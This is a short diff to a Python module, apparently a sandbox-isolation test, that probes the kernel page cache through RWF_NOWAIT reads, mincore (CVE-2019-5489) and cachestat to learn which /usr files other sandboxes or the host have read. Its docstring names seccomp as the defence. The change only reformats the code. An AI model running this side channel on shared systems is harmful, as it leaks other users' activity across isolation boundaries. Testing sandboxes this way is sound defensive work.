@@ -1,7 +1,8 @@
 """See in the page cache which files others use.
 
-Technique: files of /usr lie in the kernel's page cache if anybody read them lately, in any sandbox or on the host. A read that must not wait (RWF_NOWAIT) succeeds for those and says EAGAIN for the others; mincore
-    (CVE-2019-5489) and cachestat tell the same. POSIX_FADV_DONTNEED puts a file out of the cache, to see whether somebody fetches it back.
+Technique: files of /usr lie in the kernel's page cache if anybody read them lately, in any sandbox or on the host. A
+    read that must not wait (RWF_NOWAIT) succeeds for those and says EAGAIN for the others; mincore (CVE-2019-5489) and
+    cachestat tell the same. POSIX_FADV_DONTNEED puts a file out of the cache, to see whether somebody fetches it back.
 Success: a file that is in the cache is told from the same file when it is not.
 Stopped by: seccomp
 """
@@ -32,7 +33,8 @@ def cachestat(file):
 
 
 def attack():
-    paths = [path for path in glob.glob("/usr/share/doc/*/copyright") + glob.glob("/usr/bin/*") if os.path.isfile(path) and os.path.getsize(path) > mmap.PAGESIZE]
+    paths = filter(os.path.isfile, glob.glob("/usr/share/doc/*/copyright") + glob.glob("/usr/bin/*"))
+    paths = [path for path in paths if os.path.getsize(path) > mmap.PAGESIZE]
     # Another attack may use one of them at the same moment, or a program have it mapped, so several are tried.
     for way in (cachestat, mincore, nowait):
         for path in paths[:40]:
